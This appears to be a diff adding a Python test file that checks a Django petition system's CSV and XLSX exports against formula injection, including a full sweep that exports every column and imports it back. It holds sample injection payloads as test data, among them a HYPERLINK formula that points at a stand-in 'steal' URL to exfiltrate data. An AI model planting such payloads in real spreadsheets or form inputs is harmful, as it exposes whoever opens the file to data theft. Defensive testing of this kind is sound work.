@@ -1,0 +1,251 @@
+"""Formula injection (issue 11, defect 1): no text a person typed — not even a member of the public on
+the QR form — ever reaches a spreadsheet or CSV the product writes as a formula, and an export
+imports back to the exact original text.
+
+The sweep is driven by the ledger registry: every text column of every registered file gets formulas
+planted, the whole ledger is exported as a CSV zip and as an .xlsx, every cell of both is checked, and
+each export imported into an empty database gives the same ledger again."""
+
+import csv
+import io
+import zipfile
+
+from django.urls import reverse
+from hypothesis import given
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from lijian.accounts.choices import Role
+from lijian.core.models import AuditEvent
+from lijian.documents.ledger.bundle import BundleWriter
+from lijian.documents.ledger.cells import FORMULA_TRIGGERS, neutralise, restore, xlsx_decode, xlsx_text
+from lijian.documents.ledger.importer import ledger_export, ledger_import
+from lijian.documents.ledger.registry import registered_files
+from lijian.petitions.models import Petition
+
+from ..rectification.test_term_bundle import BUNDLE, _empty_the_database, _import_into_empty_database
+from ..world import build_findings, build_petitions, build_rounds, make_user
+from .test_ledger import write_bundle
+
+# What an attacker types: each starts a formula in Excel, WPS or LibreOffice ('=1 is the escape itself).
+PLANTS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    '=HYPERLINK("http://x.example/","y")',
+    "'=1",
+]
+HYPERLINK = '=HYPERLINK("http://x.example/steal?d=1","y")反映社区书记违规发放补贴给亲属的问题。'
+
+
+# --- the rule ------------------------------------------------------------------------------------
+
+
+@given(st.text())
+def test_any_text_comes_back_exactly_and_never_starts_a_formula(text):
+    for written in (neutralise(text), xlsx_decode(xlsx_text(text))):
+        assert restore(written) == text
+        assert written[:1] not in FORMULA_TRIGGERS
+
+
+def test_texts_that_merely_start_with_an_apostrophe_are_left_alone():
+    assert neutralise("'abc") == "'abc" and restore("'abc") == "'abc"
+    assert neutralise("'=1") == "''=1" and restore("''=1") == "'=1"
+    assert neutralise("2024-03-01") == "2024-03-01" and neutralise("-") == "'-"
+
+
+# --- the public QR form, end to end --------------------------------------------------------------
+
+
+def _sheets_xml(content: bytes) -> str:
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
+
+
+def _csv_cells(content: bytes) -> dict[str, list[list[str]]]:
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return {
+            n: list(csv.reader(io.StringIO(archive.read(n).decode("utf-8-sig"), newline="")))
+            for n in archive.namelist()
+        }
+
+
+def test_a_formula_filed_on_the_public_qr_form_stays_text_in_the_office_export(world, client):
+    rounds = build_rounds(world)
+    build_findings(world, rounds)
+    petitions = build_petitions(world, rounds)
+    response = client.post(
+        reverse("public_report", kwargs={"token": petitions.token1}),
+        {"summary": HYPERLINK, "category": "=1+1", "name": ""},
+    )
+    assert response.status_code == 200 and "code" in response.context
+    petition = Petition.objects.get(channel="qr")
+    assert (petition.category, petition.summary) == ("=1+1", HYPERLINK)  # kept as typed
+
+    office = world.users[Role.OFFICE_STAFF]
+    client.force_login(office)
+    exports = AuditEvent.objects.filter(action="ledger.export", actor=office)
+    xlsx = client.post(reverse("documents:ledger_download"), {"format": "xlsx"})
+    content = b"".join(xlsx.streaming_content)
+    assert "<f>" not in _sheets_xml(content) and "<f " not in _sheets_xml(content)
+    sheet = load_workbook(io.BytesIO(content))["petitions"]
+    header = [c.value for c in sheet[1]]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == petition.ref)
+    category, summary = row[header.index("category")], row[header.index("summary")]
+    assert (category.value, category.data_type) == ("'=1+1", "s")
+    assert (summary.value, summary.data_type) == ("'" + HYPERLINK, "s")
+    assert all(c.data_type != "f" for ws in load_workbook(io.BytesIO(content)) for r in ws for c in r)
+
+    archive = client.post(reverse("documents:ledger_download"), {"format": "zip"})
+    rows = _csv_cells(b"".join(archive.streaming_content))["petitions.csv"]
+    line = next(r for r in rows if r[0] == petition.ref)
+    assert line[rows[0].index("category")] == "'=1+1"
+    assert line[rows[0].index("summary")] == "'" + HYPERLINK
+    assert exports.count() == 2  # an export is a sensitive read: each one is audited
+
+
+# --- the sweep of every export -------------------------------------------------------------------
+
+
+def _planted_bundle() -> tuple[dict[str, list[list[str]]], dict[tuple[str, str], set[str]]]:
+    """The whole-term bundle with a formula in front of every cell of every text column, cycling
+    through ``PLANTS``; and what was planted, by (file, column).
+
+    Plants that an import would strip (a leading tab or CR) or read as the escape (a leading
+    apostrophe) are written escaped, the way the ledger itself writes them; the others are written
+    raw, as a person would type them into a spreadsheet."""
+    bundle = {name: [list(row) for row in rows] for name, rows in BUNDLE.items()}
+    planted: dict[tuple[str, str], set[str]] = {}
+    for ledger_file in registered_files():
+        text_columns = [c.key for c in ledger_file.columns if c.text]
+        if not text_columns:
+            continue
+        assert len(bundle.get(ledger_file.name, [])) > 1, f"the sweep has no rows of {ledger_file.name}"
+        header, *rows = bundle[ledger_file.name]
+        for key in text_columns:
+            column = header.index(key)
+            for k, row in enumerate(rows):  # short files start at another plant than the last one
+                value = PLANTS[(k + len(planted)) % len(PLANTS)] + row[column]
+                planted.setdefault((ledger_file.name, key), set()).add(value)
+                row[column] = value if value[0] in "=+-@" else "'" + value
+    return bundle, planted
+
+
+def _check_csv_export(path, planted) -> int:
+    """Every cell of every file of the zip: none starts a formula; every planted value is there,
+    neutralised. Returns the number of cells checked."""
+    cells = 0
+    found: dict[tuple[str, str], set[str]] = {}
+    for name, (header, *rows) in _csv_cells(path.read_bytes()).items():
+        for row in rows:
+            for key, cell in zip(header, row, strict=True):
+                cells += 1
+                assert cell[:1] not in FORMULA_TRIGGERS, (name, key, cell)
+                if (name, key) in planted:
+                    found.setdefault((name, key), set()).add(restore(cell))
+    for where, values in planted.items():
+        assert values <= found.get(where, set()), where
+    return cells
+
+
+def _check_xlsx_export(path, planted) -> int:
+    """No formula anywhere in the workbook (neither a formula cell nor an ``<f>`` in its XML); every
+    text a string cell that starts no formula; every planted value there. Returns the cells checked."""
+    xml = _sheets_xml(path.read_bytes())
+    assert "<f>" not in xml and "<f " not in xml
+    cells = 0
+    found: dict[tuple[str, str], set[str]] = {}
+    for ws in load_workbook(path):
+        name = f"{ws.title}.csv"
+        header = [c.value for c in ws[1]]
+        for row in ws.iter_rows(min_row=2):
+            for key, cell in zip(header, row, strict=False):
+                cells += 1
+                assert cell.data_type != "f", (name, key, cell.value)
+                if isinstance(cell.value, str):
+                    assert cell.data_type == "s" and cell.value[:1] not in FORMULA_TRIGGERS, (name, key)
+                    if (name, key) in planted:
+                        found.setdefault((name, key), set()).add(restore(xlsx_decode(cell.value)))
+    for where, values in planted.items():
+        assert values <= found.get(where, set()), where
+    return cells
+
+
+def _ledger_as_rows(admin, tmp_path, label) -> dict[str, list[list[str]]]:
+    """The whole ledger as the exporter sees it, texts restored (for comparing two databases)."""
+    ledger_export(tmp_path / f"{label}.zip", actor=admin)
+    return {
+        name: [[restore(c) for c in row] for row in rows]
+        for name, rows in _csv_cells((tmp_path / f"{label}.zip").read_bytes()).items()
+    }
+
+
+def _reimport_xlsx(admin, path, tmp_path):
+    """The organisation tree first (its sheets alone), then the district's department, then the whole
+    workbook, as ``_import_into_empty_database`` does with folders."""
+    tree = load_workbook(path)
+    for ws in list(tree):
+        if ws.title not in ("organizations", "bodies"):
+            tree.remove(ws)
+    tree.save(tmp_path / "tree.xlsx")
+    first = ledger_import(tmp_path / "tree.xlsx", actor=admin)
+    assert first.ok, first.errors
+    from lijian.findings.services import department_create
+    from lijian.orgs.models import Organization
+
+    committee = Organization.objects.get(code="QX")
+    department_create(actor=admin, code="JW-QX", name="区纪委监委", kind="discipline", committee=committee)
+    report = ledger_import(path, actor=admin)
+    assert report.ok, report.errors
+
+
+def test_the_formula_sweep_of_every_export(db, tmp_path):
+    admin = make_user("sweep-admin", Role.ADMINISTRATOR)
+    bundle, planted = _planted_bundle()
+    _import_into_empty_database(admin, write_bundle(tmp_path / "planted", bundle))
+    original = _ledger_as_rows(admin, tmp_path, "original")
+    for (name, key), values in planted.items():  # the records hold exactly what was typed
+        column = original[name][0].index(key)
+        assert values <= {row[column] for row in original[name][1:]}, (name, key)
+
+    ledger_export(tmp_path / "ledger.zip", actor=admin)
+    ledger_export(tmp_path / "ledger.xlsx", actor=admin)
+    csv_cells = _check_csv_export(tmp_path / "ledger.zip", planted)
+    xlsx_cells = _check_xlsx_export(tmp_path / "ledger.xlsx", planted)
+
+    # Each export, imported into an empty database, gives the same ledger back.
+    _empty_the_database()
+    folder = tmp_path / "from-zip"
+    with zipfile.ZipFile(tmp_path / "ledger.zip") as archive:
+        archive.extractall(folder)
+    _import_into_empty_database(admin, folder)
+    assert _ledger_as_rows(admin, tmp_path, "after-zip") == original
+    _empty_the_database()
+    _reimport_xlsx(admin, tmp_path / "ledger.xlsx", tmp_path)
+    assert _ledger_as_rows(admin, tmp_path, "after-xlsx") == original
+
+    plants = sum(len(v) for v in planted.values())
+    print(  # noqa: T201  the counts of the closing note of issue 11
+        f"formula sweep: {len({f for f, _ in planted})} files, {len(planted)} text columns, "
+        f"{plants} planted values, {csv_cells} CSV cells and {xlsx_cells} XLSX cells checked"
+    )
+    assert csv_cells == xlsx_cells and plants >= len(planted)
+
+
+def test_every_text_written_through_the_bundle_writer_is_neutralised(tmp_path):
+    """The one writer every export and the demo data go through: any text, in any column."""
+    rows = [[value, 7, None] for value in PLANTS]
+    for target in ("w.zip", "w.xlsx"):
+        writer = BundleWriter(tmp_path / target)
+        writer.write("petitions.csv", ["summary", "count", "empty"], rows)
+        writer.close()
+    csv_rows = _csv_cells((tmp_path / "w.zip").read_bytes())["petitions.csv"]
+    assert [restore(r[0]) for r in csv_rows[1:]] == PLANTS
+    assert all(r[0].startswith("'") and r[1] == "7" for r in csv_rows[1:])
+    ws = load_workbook(tmp_path / "w.xlsx")["petitions"]
+    values = list(ws.iter_rows(min_row=2, values_only=True))
+    assert [restore(xlsx_decode(v[0])) for v in values] == PLANTS
+    assert all(v[1] == 7 for v in values)  # numbers stay numbers
